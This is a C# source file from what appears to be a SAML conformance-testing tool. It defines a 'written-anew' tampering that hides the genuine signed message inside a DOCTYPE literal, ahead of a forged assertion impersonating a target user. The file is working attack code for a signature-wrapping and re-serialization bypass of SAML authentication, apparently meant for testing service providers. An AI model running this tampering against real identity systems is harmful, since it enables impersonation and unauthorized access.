using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Potency;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A forged message that becomes the genuine one when it is written and parsed again, which is what some verify.</summary>
internal sealed class WrittenAnew(TamperingArguments arguments) : Tampering
{
    private string _genuine = string.Empty;
    private string _forged = string.Empty;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "written-anew",
            "Hides the genuine document in a literal of the document type declaration of a forged one, which keeps the Signature: whoever writes "
            + "the literal in other quotes than it had makes the genuine document the message, and the forged one a processing instruction.",
            "The message speaks of the victim; written and read once more it does not, and the IdP's signature verifies over the untouched element.",
            [
                new("literal", "Whose literal it is: the document type declaration's own, or a NOTATION's in it.", ["system", "notation"]),
                Impersonation.Parameter,
            ]),
        arguments => new WrittenAnew(arguments));

    public override string Name => "written-anew";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        _genuine = work.Root.OuterXml.Replace("'", "&apos;", StringComparison.Ordinal);
        var copy = (XmlDocument)work.Document.CloneNode(deep: true);
        var assertion = Dom.Child(copy.DocumentElement!, "Assertion", Names.SamlNamespaces.Assertion)
            ?? throw new TamperingException("this message has no Assertion that could be forged.");
        Impersonation.Apply(assertion, target, work);
        _forged = copy.DocumentElement!.OuterXml;
        work.Claim(new RereadGenuine(SignedPlaces.Genuine(work).GetAttribute("ID"), Impersonation.Values(work.Context, target)));
    }

    public override string OnText(string text, Workpiece work)
    {
        var name = work.Root.Name;
        var before = text[..text.IndexOf($"<{name}", StringComparison.Ordinal)];
        var (open, close) = arguments.Text("literal") == "notation" ? (" [<!NOTATION n", ">]>") : (string.Empty, ">");
        return $"{before}<!DOCTYPE {name}{open} SYSTEM '\"{close}{_genuine}<?n '{close}{_forged}<?n ?>";
    }
}
